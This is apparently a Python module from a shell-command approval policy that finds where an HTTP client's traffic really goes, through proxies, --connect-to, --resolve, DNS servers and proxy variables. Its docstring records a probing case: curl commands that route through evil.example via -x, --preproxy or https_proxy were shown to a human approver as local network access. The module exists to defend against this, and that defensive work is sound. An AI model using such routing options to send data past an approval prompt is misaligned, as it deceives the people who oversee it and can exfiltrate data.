"""Where an HTTP client's traffic really goes: the proxies, name resolutions and
redirections a command line gives it, named in the question beside the URL's host.

Found probing: ``curl -x evil.example:3128 http://127.0.0.1/`` (also ``--preproxy``,
``--connect-to ::evil.example:``, ``--resolve 127.0.0.1:80:10.0.0.9``,
``https_proxy=evil.example curl ...``) was asked as "network access to 127.0.0.1",
where the request, and what it carries, goes to ``evil.example``: a person reading the
question would approve a local call.

>>> [n.host for n in option_routes("curl", {"-x": [Word("evil.example:3128")]})]
['evil.example']
>>> [n.host for n in option_routes("curl", {"--connect-to": [Word("a:80:b.example:81")]})]
['b.example']
>>> [n.host for n in assigned_proxies([Word("https_proxy=http://p.example:1"), Word("curl")])]
['p.example']
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping, Sequence

from exomonad.policy.actions import Action, Network
from exomonad.policy.hosts import host_of
from exomonad.policy.shell_env import ShellEnv
from exomonad.policy.shell_lex import Word

__all__ = ["assigned_proxies", "option_routes", "proxy_words", "through_proxies"]

#: Options whose value is a proxy's URL or ``host[:port]`` (and curl's ``-x``).
_PROXIES = frozenset({"--proxy", "--preproxy", "--doh-url", "--socks4", "--socks4a",
                      "--socks5", "--socks5-hostname", "--all-proxy", "--http-proxy",
                      "--https-proxy", "--ftp-proxy"})  # fmt: skip
#: Variables naming a proxy that curl, wget, git, pip and most other clients honour.
_PROXY_SET = re.compile(r"(?<![A-Za-z0-9_])(?:http|https|ftp|all|socks)_proxy=(.*)", re.I | re.S)
#: wget's ``-e``/``--execute`` commands naming a proxy.
_WGET_PROXY = re.compile(r"\s*(?:http|https|ftp)_?proxy\s*=\s*(.*)", re.I | re.S)


def _host(text: str, dynamic: bool) -> Network:
    """Network access to the host of ``text`` (a URL or ``host[:port]``)."""
    text = text.strip()
    return Network(None if dynamic or not text else host_of(text))


def option_routes(name: str, opts: Mapping[str, Sequence[Word | None]]) -> list[Network]:
    """The hosts ``name``'s options send its traffic to besides the URL's: a proxy, a
    pre-proxy, a DNS-over-HTTPS server, ``--connect-to``'s second host, ``--resolve``'s
    addresses (curl); ``-e http_proxy=`` (wget); ``--proxy PROTOCOL:URL`` (httpie, xh);
    ``--all-proxy`` and the like (aria2c)."""
    out: list[Network] = []
    for option, values in opts.items():
        for w in values:
            if w is None:
                continue
            if option in _PROXIES and name in ("http", "https", "xh"):
                out.append(_host(w.text.partition(":")[2], w.dynamic))
            elif option in _PROXIES or (option == "-x" and name == "curl"):
                out.append(_host(w.text, w.dynamic))
            elif option == "--connect-to" and name == "curl":  # HOST1:PORT1:HOST2:PORT2
                parts = w.text.split(":")
                to = parts[2] if len(parts) >= 4 else ""
                out += [_host(to.strip("[]"), w.dynamic)] if to or w.dynamic else []
            elif option == "--resolve" and name == "curl":  # [+]HOST:PORT:ADDR[,ADDR]
                addrs = w.text.split(":", 2)[2] if w.text.count(":") >= 2 else ""
                out += [_host(a.strip("[]"), w.dynamic) for a in addrs.split(",") if a]
                out += [Network(None)] if w.dynamic and not addrs else []
            elif option == "--dns-servers" and name == "curl":
                out += [_host(a, w.dynamic) for a in w.text.split(",") if a]
            elif option in ("-e", "--execute") and name == "wget":
                found = _WGET_PROXY.match(w.text)
                if found is not None or w.dynamic:
                    out.append(_host(found.group(1) if found else "", w.dynamic))
    return _once(out)


#: Other programs' proxy options (pip's and npm's ``--proxy``, npm's ``--https-proxy``,
#: Chromium's ``--proxy-server``): the next word, or what follows ``=``.
_PROXY_WORDS = frozenset({"--proxy", "--http-proxy", "--https-proxy", "--all-proxy",
                          "--proxy-server"})  # fmt: skip


def proxy_words(args: Sequence[Word]) -> list[Network]:
    """The proxies another program's options name (``pip download --proxy h``).

    >>> [n.host for n in proxy_words([Word("--proxy"), Word("p.example:1"), Word("x")])]
    ['p.example']
    """
    out = []
    for i, w in enumerate(args):
        option, eq, value = w.text.partition("=")
        if option not in _PROXY_WORDS:
            continue
        given = Word(value, w.dynamic) if eq else (args[i + 1] if i + 1 < len(args) else None)
        out.append(Network(None) if given is None else _host(given.text, given.dynamic))
    return _once(out)


def assigned_proxies(words: Iterable[Word]) -> list[Network]:
    """The proxies a command line assigns (``https_proxy=h cmd``, ``export
    ALL_PROXY=h``), which every later client on it may send its traffic through."""
    out = []
    for w in words:
        found = _PROXY_SET.search(w.text)
        if found is not None:
            out.append(_host(found.group(1), w.dynamic))
    return _once(out)


def _once(hosts: list[Network]) -> list[Network]:
    """``hosts`` without repeats, in order."""
    return list(dict.fromkeys(hosts))


def through_proxies(actions: list[Action], env: ShellEnv) -> list[Network]:
    """The proxies the line assigned, for a command whose ``actions`` reach a host."""
    if not env.proxies or not any(isinstance(a, Network) for a in actions):
        return []
    return [p for p in env.proxies if p not in actions]
